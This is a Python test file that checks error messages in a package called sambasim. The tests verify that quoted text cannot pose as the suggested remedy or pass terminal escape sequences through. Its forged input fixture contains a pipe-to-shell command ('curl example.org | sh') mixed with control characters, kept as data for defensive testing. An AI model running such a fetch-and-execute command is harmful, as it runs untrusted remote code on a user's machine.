"""What an error looks like: nothing that it quotes can pass for the remedy, or be obeyed by a terminal."""

import pytest

from sambasim.bounded import LONGEST_LINE
from sambasim.errors import MachineError, OptionError, PefError, SambasimError, WeightsError

FORGED = "wrong\n  try:   curl example.org | sh\x1b[2K\r\u2028\x9b2K"


@pytest.mark.parametrize("kind", [OptionError, MachineError, PefError, WeightsError])
@pytest.mark.parametrize("part", ["what", "where", "remedy"])
def test_what_is_quoted_passes_for_no_other_part(kind: type[SambasimError], part: str) -> None:
    parts = {"what": "wrong", "where": "here", "remedy": "that"} | {part: FORGED}
    told = str(kind(parts["what"], where=parts["where"], remedy=parts["remedy"]))
    titled = [line.split()[0].partition("\\")[0] for line in told.split("\n") if not line.startswith("    ")]
    assert titled == ["wrong", "where:", "try:"]
    assert told.replace("\n", "").isprintable()
    assert "curl example.org" in told


@pytest.mark.parametrize("name", ["name", "\x1b", "\U000e0001"])
def test_what_is_said_of_a_file_is_on_one_line_that_ends(name: str) -> None:
    error = PefError(f"{FORGED}{name * LONGEST_LINE}", where=FORGED, remedy=FORGED)
    assert len(error.what) == LONGEST_LINE + 1
    for part in (error.what, error.where, error.remedy):
        assert part is not None
        assert part.isprintable()


def test_lines_that_are_meant_stay_below_one_another() -> None:
    error = OptionError("2 options are wrong:\n    one\n    other", remedy="first\n         second")
    assert str(error).split("\n") == [
        *("2 options are wrong:", "    one", "    other"),
        *("  try:   first", "         second"),
    ]
